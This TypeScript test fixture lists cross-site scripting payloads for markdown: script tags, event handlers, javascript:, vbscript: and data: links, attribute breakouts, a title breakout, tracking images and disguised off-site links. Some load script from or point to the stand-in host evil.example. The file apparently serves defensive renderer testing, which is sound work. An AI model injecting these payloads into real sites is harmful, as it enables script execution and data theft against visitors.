/**
 * Known cross-site scripting payloads, written the way an editor (or someone who got an editor's
 * access) could put them in a markdown file. Each one, if it got through, would run script, load
 * something, or send a visitor to a script address. Gathered from the OWASP XSS filter evasion cheat
 * sheet and from past advisories against markdown renderers.
 */
export const XSS_PAYLOADS: readonly string[] = [
  // Raw HTML that runs script when the browser parses it.
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>open</details>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<a href="javascript:alert(1)">raw link</a>',
  '<form action="javascript:alert(1)"><button>send</button></form>',
  '<math><mi xlink:href="javascript:alert(1)">math</mi></math>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background:url(javascript:alert(1))">styled</div>',
  '<!--><script>alert(1)</script>-->',
  // Markdown links and images whose address runs script or carries a document.
  '[plain](javascript:alert(1))',
  '[mixed case](JaVaScRiPt:alert(1))',
  '[entity](&#106;avascript:alert(1))',
  '[named entity](javascript&colon;alert(1))',
  '[tab](&#x09;javascript:alert(1))',
  '[leading space]( javascript:alert(1))',
  '[pointy](<javascript:alert(1)>)',
  '[vbscript](vbscript:msgbox(1))',
  '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[reference][xss-ref]\n\n[xss-ref]: javascript:alert(1)',
  '<javascript:alert(1)>',
  // Breaking out of an attribute the renderer writes.
  '[title](https://masky.example "a\\" onmouseover=\\"alert(1)")',
  '[quote](https://masky.example/"onmouseover="alert(1))',
  '[fragment](https://masky.example/#"><script>alert(1)</script>)',
  // Raw HTML inside other markdown constructs.
  '## <img src=x onerror=alert(1)> heading',
  '| cell |\n| --- |\n| <img src=x onerror=alert(1)> |',
  'footnote[^xss]\n\n[^xss]: <script>alert(1)</script>',
  'www.evil.example/?q=<script>alert(1)</script>',
];

/**
 * A payload for front matter fields, which reach the page's title, headings, meta tags and the
 * blog's feeds: it tries to close an attribute, an element and an XML CDATA section.
 */
/**
 * Pictures whose address runs script, carries a document or tells a third party who reads the page.
 * The content check refuses every picture that is not on the site itself, so these never reach a
 * build; the renderer still shows each as its words, should one get past the check.
 */
export const XSS_IMAGE_PAYLOADS: readonly string[] = [
  '![image](javascript:alert(1))',
  '![svg image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+)',
  '![tracker](https://evil.example/pixel.png)',
  '![protocol relative](//evil.example/pixel.png)',
];

/**
 * Links written as if they stayed on the site, which a browser reads as another host's; the content
 * check refuses them, as it does pictures from elsewhere, so they are tried apart from the build.
 */
export const XSS_HOST_LINK_PAYLOADS: readonly string[] = [
  '[protocol relative](//evil.example/steal)',
  '[backslash](/\\evil.example/steal)',
  '[escaped backslash](/%5Cevil.example/steal)',
  '[escaped slash](/%2F/evil.example/steal)',
  '[tab](</\t/evil.example/steal>)',
];

export const XSS_TITLE = '"]]></title><script>alert(1)</script><img src=x onerror=alert(1)>';

/** Ordinary markdown that must still render after the corpus: links, lists, a table and emphasis. */
export const ORDINARY_MARKDOWN = `
Plain text with *emphasis* and **strong words**, a [page of the site](/privacypolicy) and a
[site elsewhere](https://github.com/lipis/flag-icons).

- first item
- second item

1. step one
2. step two

| Column one | Column two |
| --- | --- |
| Cell one | Cell two |
`;
